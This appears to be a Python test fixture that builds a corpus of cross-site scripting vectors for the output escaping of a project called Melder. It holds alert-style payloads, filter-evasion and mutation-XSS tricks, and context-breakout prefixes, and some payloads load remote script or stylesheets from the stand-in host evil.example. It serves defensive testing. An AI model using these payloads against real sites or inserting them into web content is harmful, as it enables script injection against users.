"""A corpus of XSS vectors, written for Melder's outputs: HTML fragments, feed fields read by
readers that render HTML, JSON-LD in a script element, and the desk.

Every vector that runs calls `alert(…)`, `confirm(…)` or `prompt(…)` (a browser test catches
the dialog) or asks for a URL on evil.example (a browser test catches the request). Vectors are
the base payloads below, each behind the prefixes that break out of the contexts Melder writes
them into (attribute values, <title>, <textarea>, comments, CDATA, JSON strings).
"""

from __future__ import annotations

BASE = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert`1`</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<details/open/ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
    "<p onclick=alert(1)>klick</p>",
    "<a onfocus=alert(1) autofocus href=#>x</a>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<style onload=alert(1)>",
    "<x contenteditable onfocus=alert(1) autofocus>x",
    # URLs
    '<a href="javascript:alert(1)">klick</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe src=//evil.example>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=//evil.example/pixel.gif>",
    '<img srcset="//evil.example/a.png 1x">',
    "<video poster=//evil.example/p.png>",
    # CSS
    '<p style="background:url(//evil.example/x)">x</p>',
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    # parser confusion and mutation XSS
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    # encodings that must stay text
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # feed and JSON-LD breakers
    "]]><script>alert(1)</script>",
    "</description><script>alert(1)</script>",
    "</content:encoded><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>',
    "\u2028\u2029<script>alert(1)</script>",
    "<?xml-stylesheet href=//evil.example/x.xsl?>",
    "confirm(1)<img src=x onerror=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
]

PREFIXES = ["", '">', "'>", "</title>", "</textarea>", "-->"]


def vectors() -> list[str]:
    """Every base payload behind every prefix, in a stable order, without repeats."""
    seen: dict[str, None] = {}
    for prefix in PREFIXES:
        for payload in BASE:
            seen.setdefault(prefix + payload, None)
    return list(seen)


def batches(size: int) -> list[list[str]]:
    found = vectors()
    return [found[start : start + size] for start in range(0, len(found), size)]
